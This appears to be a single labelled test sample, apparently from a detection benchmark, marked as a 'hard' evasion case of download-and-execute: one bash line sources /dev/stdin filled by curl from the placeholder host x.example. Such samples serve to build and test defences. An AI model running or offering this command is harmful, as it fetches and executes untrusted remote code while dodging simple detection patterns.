# evasion: dot of /dev/stdin fed by curl
# grade: hard; does: download-exec
. /dev/stdin <<< "$(curl -s https://x.example/i.sh)"
